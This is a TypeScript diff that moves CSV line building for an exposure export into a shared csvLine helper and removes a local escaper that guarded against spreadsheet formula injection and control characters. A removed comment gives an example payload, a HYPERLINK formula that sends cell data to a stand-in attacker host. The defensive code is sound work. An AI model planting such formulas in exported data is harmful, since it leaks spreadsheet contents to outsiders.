@@ -1,3 +1,4 @@
+import { csvLine } from "./csv-line.ts";
 import type { Exposure } from "./exposure.ts";
 
 const COLUMNS: readonly (readonly [title: string, value: (it: Exposure) => string | number | undefined])[] = [
@@ -20,26 +21,9 @@ const COLUMNS: readonly (readonly [title: string, value: (it: Exposure) => strin
 
 /** The first line of the file, with its line end. */
 export function exposureCsvHead(): string {
-  return lineOf(COLUMNS.map(([title]) => title));
+  return csvLine(COLUMNS.map(([title]) => title));
 }
 
 export function exposureCsvLine(exposure: Exposure): string {
-  return lineOf(COLUMNS.map(([, value]) => value(exposure)));
-}
-
-/** As RFC 4180 has it. */
-function lineOf(cells: readonly (string | number | undefined)[]): string {
-  return `${cells.map(cellOf).join(",")}\r\n`;
-}
-
-// A spreadsheet runs what begins like a formula, and senders choose subjects and addresses:
-// =HYPERLINK("https://evil.example/?"&A1) would carry the sheet away.
-const RUNS = /^[=+\-@\t\r]/u;
-
-function cellOf(value: string | number | undefined): string {
-  if (typeof value === "number") return String(value);
-  const text = value ?? "";
-  const harmless = RUNS.test(text) ? `'${text}` : text;
-  // Control characters would draw on a terminal, and a sheet shows them as nothing.
-  return `"${harmless.replaceAll(/[\p{Cc}\p{Cf}]/gu, " ").replaceAll('"', '""')}"`;
+  return csvLine(COLUMNS.map(([, value]) => value(exposure)));
 }
